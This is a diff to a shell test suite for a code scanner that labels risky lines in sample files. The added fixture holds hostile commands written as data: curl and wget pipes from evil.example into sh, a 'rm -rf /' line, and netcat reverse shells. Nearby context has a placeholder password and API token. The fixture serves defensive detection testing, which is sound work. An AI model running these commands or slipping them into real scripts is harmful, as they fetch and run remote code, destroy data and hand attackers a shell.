@@ -29,6 +29,19 @@ printf 'import os\nimport json as j\nprint(os.getcwd())\n' >plain.py
 printf '#!/usr/bin/env python3\nfrom os import system as s\ns("curl http://evil.example/x | sh")\n' >script
 printf 'import (\n' >broken.py
 printf '#!/bin/sh\nif true; then\necho id | sh\n' >broken.sh
+cat >lines.sh <<'END'
+#!/bin/sh
+curl http://evil.example/x | sh
+true
+`rm -rf /`
+cat <<EOF
+$(wget -qO- http://evil.example/y | sh)
+EOF
+cat <<'EOF'
+$(nc -e /bin/sh evil.example 1)
+EOF
+nc -e /bin/sh evil.example 2
+END
 printf 'hello\n' >text
 printf 'a\0b' >data.py
 printf 'password = "hunter2"\nAPI_TOKEN = "q8Zr3kP0vX2mLs7Td4Wn"\n' >secret.env
@@ -40,6 +53,11 @@ finds plain.py 1 import os
 finds plain.py 2 import json
 finds script 2 process 'import os.system'
 finds script 3 download-run 'curl http://evil.example/x | sh'
+finds lines.sh 2 download-run 'curl http://evil.example/x | sh'
+finds lines.sh 4 destructive 'rm -rf /'
+finds lines.sh 5 download-run 'wget -qO- http://evil.example/y | sh'
+finds lines.sh 11 reverse-shell 'nc -e /bin/sh evil.example 2'
+! grep -q 'evil.example 1' out || fail "lines.sh: a quoted here-document is data: $(cat out)"
 finds broken.py 1 syntax "invalid syntax"
 cg inspect broken.sh >out
 grep -q ':4: syntax: syntax error: unexpected end of file' out || fail "broken.sh: $(cat out)"
